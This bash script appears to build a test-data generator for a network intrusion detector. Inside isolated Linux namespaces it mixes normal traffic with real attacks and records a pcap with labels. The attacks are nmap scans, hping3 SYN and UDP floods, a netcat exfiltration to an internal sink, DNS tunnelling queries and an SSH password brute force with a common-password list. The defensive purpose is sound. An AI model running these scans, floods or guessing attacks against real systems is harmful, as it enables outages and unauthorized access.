#!/usr/bin/env bash
# Labeled traffic generator: real normal traffic plus real attacks between
# hosts in network namespaces around a Linux bridge, recorded to a pcap with
# a labels CSV. See README.md in this folder. Needs root.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ALL_ATTACKS=synscan,connectscan,hostsweep,synflood,udpflood,exfil,dnstunnel,bruteforce

usage() {
  cat <<EOF
usage: generate.sh [options]
  --out DIR         output directory (default: ./scenario-out)
  --name NAME       base name of the output files (default: scenario)
  --warmup SECS     normal-only traffic before the first attack (default: 120)
  --gap SECS        normal-only traffic between attack windows (default: 20)
  --tail SECS       normal-only traffic after the last attack (default: 20)
  --attacks LIST    comma-separated, in order, or 'all' (default: all)
                    $ALL_ATTACKS
  --scale F         multiplies attack volumes: flood packets, exfil MB,
                    tunnel queries, password guesses (default: 1)
  --snaplen N       bytes kept per packet (default: 128; headers stay whole)
  --mtu N           link MTU of every host (default: 9000)
  --net A.B.C       /24 used inside the namespaces (default: 10.77.0)
  --seed N          seed for the normal-traffic randomness (default: 1)
  -h, --help
Writes DIR/NAME.pcap, DIR/NAME.labels.csv, DIR/NAME.meta.json.
EOF
}

OUT=./scenario-out NAME=scenario WARMUP=120 GAP=20 TAIL=20 ATTACKS=all SCALE=1
SNAPLEN=128 MTU=9000 NET=10.77.0 SEED=1
while (( $# )); do
  case $1 in
    --out) OUT=$2; shift ;;
    --name) NAME=$2; shift ;;
    --warmup) WARMUP=$2; shift ;;
    --gap) GAP=$2; shift ;;
    --tail) TAIL=$2; shift ;;
    --attacks) ATTACKS=$2; shift ;;
    --scale) SCALE=$2; shift ;;
    --snaplen) SNAPLEN=$2; shift ;;
    --mtu) MTU=$2; shift ;;
    --net) NET=$2; shift ;;
    --seed) SEED=$2; shift ;;
    -h|--help) usage; exit 0 ;;
    *) echo "generate.sh: unknown option '$1'" >&2; usage >&2; exit 2 ;;
  esac
  shift
done
[[ $ATTACKS == all ]] && ATTACKS=$ALL_ATTACKS

die() { echo "generate.sh: $*" >&2; exit 1; }
log() { printf '[%s] %s\n' "$(date +%T)" "$*" >&2; }
is_uint() { [[ $1 =~ ^[0-9]+$ ]]; }
for v in WARMUP GAP TAIL SNAPLEN MTU SEED; do is_uint "${!v}" || die "--${v,,} must be a whole number, got '${!v}'"; done
[[ $SCALE =~ ^[0-9]+(\.[0-9]+)?$ ]] || die "--scale must be a positive number, got '$SCALE'"
[[ $NET =~ ^(10|172|192)\.[0-9]{1,3}\.([0-9]{1,3})$ ]] && (( BASH_REMATCH[2] < 255 )) \
  || die "--net must look like 10.77.0 (a private /24 whose next /24 is free), got '$NET'"
NET2=${NET%.*}.$(( ${NET##*.} + 1 ))   # a second /24 behind a router
(( SNAPLEN >= 96 )) || die "--snaplen below 96 would cut TCP headers"
IFS=, read -r -a ATTACK_LIST <<< "$ATTACKS"
for a in "${ATTACK_LIST[@]}"; do
  [[ ,$ALL_ATTACKS, == *",$a,"* ]] || die "unknown attack '$a' (known: $ALL_ATTACKS)"
done
(( EUID == 0 )) || die "must run as root (network namespaces, raw sockets)"
for t in ip tcpdump ethtool python3 curl dig dnsmasq ping iperf3 nmap hping3 sshd ssh ssh-keygen sshpass nc socat; do
  command -v "$t" >/dev/null || die "missing tool '$t' (see README.md for the Debian packages)"
done
SSHD=$(command -v sshd)

# scaled attack volumes
scaled() { python3 -c "import sys; print(max(1, round(float(sys.argv[1]) * float(sys.argv[2]))))" "$1" "$SCALE"; }
SYNFLOOD_PKTS=$(scaled 3000)
UDPFLOOD_PKTS=$(scaled 3000)
EXFIL_MB=$(scaled 50)
TUNNEL_QUERIES=$(scaled 400)
GUESSES_PER_USER=$(scaled 40)

# ---- hosts -------------------------------------------------------------
P=nsc$$                         # namespace prefix, unique per run
BR_NS=$P-br
declare -A IP=(
  [c1]=$NET.11 [c2]=$NET.12 [c3]=$NET.13
  [web]=$NET.21 [dns]=$NET.22 [ssh]=$NET.23 [bulk]=$NET.24
  [attacker]=$NET.66 [gw]=$NET.1 [gw1]=$NET2.1 [app1]=$NET2.31
)
HOSTS=(c1 c2 c3 web dns ssh bulk attacker gw app1)
ATTACKER=${IP[attacker]}
ZONE=corp.test

mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
PCAP=$OUT/$NAME.pcap
LABELS=$OUT/$NAME.labels.csv
META=$OUT/$NAME.meta.json
WORK=$(mktemp -d -t netids-scenario.XXXXXX)
TCPDUMP_PID=
declare -a GROUPS_STARTED=()

ns() { echo "$P-$1"; }
in_ns() { local h=$1; shift; ip netns exec "$(ns "$h")" "$@"; }
# bg NAME HOST CMD...: start CMD in HOST's namespace in its own process group.
bg() {
  local name=$1 h=$2; shift 2
  setsid ip netns exec "$(ns "$h")" "$@" >"$WORK/$name.log" 2>&1 < /dev/null &
  GROUPS_STARTED+=($!)
}

cleanup() {
  local rc=$?
  set +e
  trap - EXIT INT TERM
  for g in "${GROUPS_STARTED[@]}"; do kill -TERM -- "-$g" 2>/dev/null; done
  if [[ -n $TCPDUMP_PID ]] && kill -0 "$TCPDUMP_PID" 2>/dev/null; then
    kill -INT "$TCPDUMP_PID"; wait "$TCPDUMP_PID" 2>/dev/null
  fi
  # Anything still running inside our namespaces is ours: stop it.
  for h in "${HOSTS[@]}" br; do
    local pids
    pids=$(ip netns pids "$P-$h" 2>/dev/null)
    [[ -n $pids ]] && kill -KILL $pids 2>/dev/null
  done
  for h in "${HOSTS[@]}" br; do ip netns del "$P-$h" 2>/dev/null; done
  rm -rf "$WORK"
  exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

now() { date +%s.%N | cut -c1-14; }    # epoch with milliseconds, same clock as tcpdump

declare -A NS_MADE=()
# add_host HOST BRIDGE IP [IFNAME]: a namespace (once) with a veth on BRIDGE.
add_host() {
  local h=$1 br=$2 addr=$3 ifname=${4:-eth0} n
  n=$(ns "$h")
  if [[ -z ${NS_MADE[$n]:-} ]]; then
    ip netns add "$n"
    NS_MADE[$n]=1
    ip netns exec "$n" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$n" link set lo up
  fi
  local port=p-$h-$ifname
  ip link add "$port" netns "$BR_NS" mtu "$MTU" type veth peer name "$ifname" netns "$n" mtu "$MTU"
  ip -n "$BR_NS" link set "$port" master "$br" up
  ip -n "$n" addr add "$addr/24" dev "$ifname"
  ip -n "$n" link set "$ifname" up
  # Segments as on a wire: no segmentation/receive offloads, real checksums.
  ip netns exec "$n" ethtool -K "$ifname" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  ip netns exec "$BR_NS" ethtool -K "$port" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
}

setup_network() {
  log "creating namespaces $P-*: bridges br0 ($NET.0/24, captured) and br1 ($NET2.0/24) in $BR_NS"
  ip netns add "$BR_NS"
  ip netns exec "$BR_NS" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip -n "$BR_NS" link set lo up
  for br in br0 br1; do
    ip -n "$BR_NS" link add "$br" type bridge forward_delay 0 stp_state 0 mcast_snooping 0
    ip -n "$BR_NS" link set "$br" mtu "$MTU"
  done
  for h in c1 c2 c3 web dns ssh bulk attacker; do
    add_host "$h" br0 "${IP[$h]}"
    ip -n "$(ns "$h")" route add "$NET2.0/24" via "${IP[gw]}"
  done
  add_host gw br0 "${IP[gw]}" eth0
  add_host gw br1 "${IP[gw1]}" eth1
  ip netns exec "$(ns gw)" sysctl -qw net.ipv4.ip_forward=1
  add_host app1 br1 "${IP[app1]}"
  ip -n "$(ns app1)" route add "$NET.0/24" via "${IP[gw1]}"
  ip -n "$BR_NS" link set br0 up
  ip -n "$BR_NS" link set br1 up
}

setup_servers() {
  log "starting servers"
  # web: static site of varied sizes
  local www=$WORK/www
  mkdir -p "$www"/{css,js,img,api,docs}
  head -c 3100 /dev/urandom | base64 > "$www/index.html"
  head -c 9000 /dev/urandom | base64 > "$www/css/style.css"
  head -c 36000 /dev/urandom | base64 > "$www/js/app.js"
  head -c 22000 /dev/urandom > "$www/img/logo.png"
  local i=1
  for kb in 80 140 210 320; do head -c $((kb * 1024)) /dev/urandom > "$www/img/photo$i.jpg"; i=$((i + 1)); done
  head -c 700000 /dev/urandom > "$www/docs/report.pdf"
  echo '{"status":"ok","uptime":12345}' > "$www/api/status.json"
  head -c 3000 /dev/urandom | base64 > "$www/api/items.json"
  head -c 600 /dev/urandom | base64 > "$www/api/user.json"
  bg web web python3 -m http.server 80 --bind "${IP[web]}" --directory "$www"

  # dns: dnsmasq authoritative-style for the test zone, nothing forwarded
  bg dns dns dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll \
    --bind-interfaces --listen-address="${IP[dns]}" --except-interface=lo \
    --local="/$ZONE/" --log-facility=- --user=root --group=root --pid-file= \
    --host-record="www.$ZONE,${IP[web]}" --host-record="api.$ZONE,${IP[web]}" \
    --host-record="static.$ZONE,${IP[web]}" --host-record="files.$ZONE,${IP[bulk]}" \
    --host-record="git.$ZONE,${IP[ssh]}" --host-record="ns.$ZONE,${IP[dns]}" \
    --host-record="mail.$ZONE,$NET.25" --host-record="intranet.$ZONE,${IP[web]}" \
    --cname="wiki.$ZONE,intranet.$ZONE" --mx-host="$ZONE,mail.$ZONE,10" \
    --txt-record="$ZONE,v=spf1 mx -all"

  # ssh: sshd with its own config; key login for normal use, passwords refused
  mkdir -p /run/sshd
  ssh-keygen -q -t ed25519 -N '' -C scenario-host -f "$WORK/ssh_host_key"
  ssh-keygen -q -t ed25519 -N '' -C scenario-client -f "$WORK/client_key"
  cp "$WORK/client_key.pub" "$WORK/authorized_keys"
  cat > "$WORK/sshd_config" <<EOF
ListenAddress ${IP[ssh]}
Port 22
HostKey $WORK/ssh_host_key
PidFile none
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin prohibit-password
AuthorizedKeysFile $WORK/authorized_keys
StrictModes no
MaxAuthTries 6
MaxStartups 100:30:200
LoginGraceTime 20
EOF
  bg sshd ssh "$SSHD" -D -e -f "$WORK/sshd_config"

  # bulk: big files over HTTP, iperf3, a telemetry sink, and the listener on 4444
  mkdir -p "$WORK/files/bulk"
  for m in 1 4 16; do head -c $((m * 1048576)) /dev/urandom > "$WORK/files/bulk/${m}M.bin"; done
  bg bulk-http bulk python3 -m http.server 8080 --bind "${IP[bulk]}" --directory "$WORK/files"
  bg iperf3 bulk iperf3 -s -B "${IP[bulk]}" -p 5201
  bg sink5000 bulk socat -u "TCP-LISTEN:5000,bind=${IP[bulk]},reuseaddr,fork" OPEN:/dev/null,wronly
  bg app1-http app1 python3 -m http.server 8000 --bind "${IP[app1]}" --directory "$www/api"
  bg sink4444 bulk socat -u "TCP-LISTEN:4444,bind=${IP[bulk]},reuseaddr,fork" OPEN:/dev/null,wronly

  wait_port web "${IP[web]}" 80 tcp
  wait_port bulk "${IP[bulk]}" 8080 tcp
  wait_port bulk "${IP[bulk]}" 5201 tcp
  wait_port bulk "${IP[bulk]}" 5000 tcp
  wait_port bulk "${IP[bulk]}" 4444 tcp
  wait_port ssh "${IP[ssh]}" 22 tcp
  wait_port app1 "${IP[app1]}" 8000 tcp
  wait_port dns "${IP[dns]}" 53 udp
}

# wait_port HOST IP PORT tcp|udp: poll (deadline 15 s) until the server listens.
wait_port() {
  local h=$1 ip=$2 port=$3 proto=$4 deadline=$((SECONDS + 15)) flag=-ltn
  [[ $proto == udp ]] && flag=-lun
  until in_ns "$h" ss "$flag" "sport = :$port" | grep -q "$ip:$port"; do
    (( SECONDS < deadline )) || die "server on $h $ip:$port/$proto did not start (see logs)"
    sleep 0.1
  done
}

start_capture() {
  log "capturing on br0 (snaplen $SNAPLEN) into $PCAP"
  rm -f "$PCAP"
  ip netns exec "$BR_NS" tcpdump -i br0 -n -s "$SNAPLEN" -B 16384 -U -Z root -w "$PCAP" \
    2>"$WORK/tcpdump.log" &
  TCPDUMP_PID=$!
  local deadline=$((SECONDS + 10))
  until grep -q 'listening on' "$WORK/tcpdump.log"; do
    (( SECONDS < deadline )) || { cat "$WORK/tcpdump.log" >&2; die "tcpdump did not start"; }
    sleep 0.1
  done
}

stop_capture() {
  kill -INT "$TCPDUMP_PID"
  wait "$TCPDUMP_PID" || true
  TCPDUMP_PID=
  CAPTURE_STATS=$(grep -E 'packets (captured|received|dropped)' "$WORK/tcpdump.log" | tr '\n' ';')
  log "tcpdump: $CAPTURE_STATS"
}

start_normal_traffic() {
  log "starting normal traffic from c1 c2 c3"
  export APP_IP=${IP[app1]} WEB_IP=${IP[web]} DNS_IP=${IP[dns]} SSH_IP=${IP[ssh]} BULK_IP=${IP[bulk]} ZONE SSH_KEY=$WORK/client_key
  local client=$HERE/normal-client.sh k=0
  for c in c1 c2 c3; do
    local peers=""
    for o in c1 c2 c3; do [[ $o != "$c" ]] && peers+="${IP[$o]} "; done
    export PEER_IPS=$peers CLIENT_NAME=$c
    k=$((k + 1))
    bg "$c-web" "$c" bash "$client" web $((SEED * 100 + k * 10 + 1))
    bg "$c-dns" "$c" bash "$client" dns $((SEED * 100 + k * 10 + 2))
    bg "$c-ping" "$c" bash "$client" ping $((SEED * 100 + k * 10 + 3))
  done
  export CLIENT_NAME=c1; bg c1-ssh-session c1 bash "$client" ssh-session $((SEED * 100 + 4))
  export CLIENT_NAME=c2
  bg c2-trickle c2 bash "$client" trickle $((SEED * 100 + 5))
  bg c2-bulk c2 bash "$client" bulk $((SEED * 100 + 6))
  bg c2-ssh-commands c2 bash "$client" ssh-commands $((SEED * 100 + 7))
  export CLIENT_NAME=c3
  bg c3-iperf c3 bash "$client" iperf $((SEED * 100 + 8))
  bg c3-bulk c3 bash "$client" bulk $((SEED * 100 + 9))
}

# ---- attacks -----------------------------------------------------------
# Each runs from the attacker namespace and prints "victim,attack_type".
attack_synscan() {
  in_ns attacker nmap -sS -T4 -n -Pn --top-ports 1000 "${IP[web]}" >>"$WORK/attacks.log" 2>&1
  echo "${IP[web]},PortScan"
}
attack_connectscan() {
  in_ns attacker nmap -sT -T4 -n -Pn --top-ports 1000 "${IP[ssh]}" >>"$WORK/attacks.log" 2>&1
  echo "${IP[ssh]},PortScan"
}
attack_hostsweep() {
  # The local /24 (answered by ARP) and the routed one behind gw (ICMP/TCP probes on the wire).
  in_ns attacker nmap -sn -T4 -n --disable-arp-ping "$NET.0/24" "$NET2.0/24" >>"$WORK/attacks.log" 2>&1
  SETTLE=4   # the router's ICMP host-unreachable errors come up to 3 s late
  echo "*,HostSweep"
}
attack_synflood() {
  in_ns attacker hping3 -q -S -p 80 -c "$SYNFLOOD_PKTS" -i u400 "${IP[web]}" >>"$WORK/attacks.log" 2>&1 || true
  echo "${IP[web]},SynFlood"
}
attack_udpflood() {
  in_ns attacker hping3 -q --udp -p 9999 -d 64 -c "$UDPFLOOD_PKTS" -i u400 "${IP[bulk]}" >>"$WORK/attacks.log" 2>&1 || true
  echo "${IP[bulk]},UdpFlood"
}
attack_exfil() {
  in_ns attacker bash -c "head -c ${EXFIL_MB}M /dev/urandom | nc -N ${IP[bulk]} 4444" >>"$WORK/attacks.log" 2>&1
  echo "${IP[bulk]},Exfiltration"
}
attack_dnstunnel() {
  python3 - "$TUNNEL_QUERIES" "$ZONE" "$SEED" > "$WORK/tunnel.batch" <<'EOF'
import random, sys
n, zone, seed = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
rnd = random.Random(seed)
alphabet = "abcdefghijklmnopqrstuvwxyz234567"
for i in range(n):
    l1 = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(40, 60)))
    l2 = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(12, 30)))
    print(f"{l1}.{l2}.t{i % 7}.{zone} {rnd.choice(['TXT', 'TXT', 'A', 'CNAME'])}")
EOF
  in_ns attacker dig "@${IP[dns]}" +tries=1 +time=1 +noall -f "$WORK/tunnel.batch" >>"$WORK/attacks.log" 2>&1 || true
  echo "${IP[dns]},DnsTunnel"
}
attack_bruteforce() {
  printf '%s\n' root admin ubuntu > "$WORK/users.txt"
  python3 - "$GUESSES_PER_USER" > "$WORK/passwords.txt" <<'EOF'
import sys
base = ["123456", "password", "admin", "root", "toor", "qwerty", "letmein", "changeme",
        "welcome", "123456789", "12345", "1234", "111111", "abc123", "passw0rd", "dragon",
        "master", "monkey", "shadow", "sunshine", "princess", "football", "baseball", "trustno1",
        "iloveyou", "superman", "ubuntu", "debian", "raspberry", "server", "secret", "login",
        "test", "guest", "default", "P@ssw0rd", "Summer2024", "Winter2023", "admin123", "root123"]
n = int(sys.argv[1])
for i in range(n):
    print(base[i % len(base)] + ("" if i < len(base) else str(i // len(base))))
EOF
  if command -v hydra >/dev/null; then
    (cd "$WORK" && in_ns attacker hydra -I -q -t 4 -w 3 -L users.txt -P passwords.txt "ssh://${IP[ssh]}") >>"$WORK/attacks.log" 2>&1 || true
  else
    local u p
    while read -r u; do while read -r p; do
      in_ns attacker sshpass -p "$p" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o PreferredAuthentications=password -o PubkeyAuthentication=no -o ConnectTimeout=5 \
        "$u@${IP[ssh]}" true >>"$WORK/attacks.log" 2>&1 || true
    done < "$WORK/passwords.txt"; done < "$WORK/users.txt"
  fi
  echo "${IP[ssh]},BruteForce"
}

# ---- run ---------------------------------------------------------------
setup_network
start_capture
setup_servers
T0=$(now)
start_normal_traffic
log "normal-only warm-up: ${WARMUP}s"
sleep "$WARMUP"

echo "start_epoch,end_epoch,attacker_ip,victim_ip_or_*,attack_type" > "$WORK/labels.csv"
first=1
for a in "${ATTACK_LIST[@]}"; do
  if (( ! first )); then log "normal-only gap: ${GAP}s"; sleep "$GAP"; fi
  first=0
  log "attack: $a"
  start=$(now)
  SETTLE=1   # let replies and connection teardown of this attack land inside the window
  "attack_$a" > "$WORK/row"
  row=$(cat "$WORK/row")
  sleep "$SETTLE"
  end=$(now)
  echo "$start,$end,$ATTACKER,$row" >> "$WORK/labels.csv"
  log "  window $start..$end victim/type ${row}"
done
log "normal-only tail: ${TAIL}s"
sleep "$TAIL"

log "stopping traffic"
for g in "${GROUPS_STARTED[@]}"; do kill -TERM -- "-$g" 2>/dev/null || true; done
sleep 1
stop_capture
T1=$(now)
mv "$WORK/labels.csv" "$LABELS"

tool_version() { "$@" 2>&1 | head -1 | tr -d '"\\' || true; }
cat > "$META" <<EOF
{
  "generator": "test/scenarios/generate.sh",
  "name": "$NAME",
  "started": $T0,
  "finished": $T1,
  "warmupSeconds": $WARMUP,
  "gapSeconds": $GAP,
  "tailSeconds": $TAIL,
  "attacks": "$ATTACKS",
  "scale": $SCALE,
  "snaplen": $SNAPLEN,
  "mtu": $MTU,
  "seed": $SEED,
  "volumes": { "synFloodPackets": $SYNFLOOD_PKTS, "udpFloodPackets": $UDPFLOOD_PKTS, "exfilMegabytes": $EXFIL_MB,
               "tunnelQueries": $TUNNEL_QUERIES, "guessesPerUser": $GUESSES_PER_USER, "users": 3 },
  "hosts": {
    "c1": "${IP[c1]}", "c2": "${IP[c2]}", "c3": "${IP[c3]}",
    "web": "${IP[web]}", "dns": "${IP[dns]}", "ssh": "${IP[ssh]}", "bulk": "${IP[bulk]}",
    "attacker": "${IP[attacker]}", "router": "${IP[gw]}", "app1": "${IP[app1]}"
  },
  "capturedSubnet": "$NET.0/24", "routedSubnet": "$NET2.0/24",
  "capture": "$CAPTURE_STATS",
  "tools": {
    "nmap": "$(tool_version nmap --version)",
    "hping3": "$(tool_version hping3 --version)",
    "hydra": "$(if command -v hydra >/dev/null; then hydra -h 2>&1 | head -1 | cut -d' ' -f1,2; else echo absent; fi)"
  }
}
EOF
log "wrote $PCAP ($(stat -c %s "$PCAP") bytes), $LABELS, $META"
python3 -c 'import json, sys; json.load(open(sys.argv[1]))' "$META" || die "wrote invalid JSON to $META"
python3 "$HERE/verify_labels.py" "$PCAP" "$LABELS" || die "label verification failed"
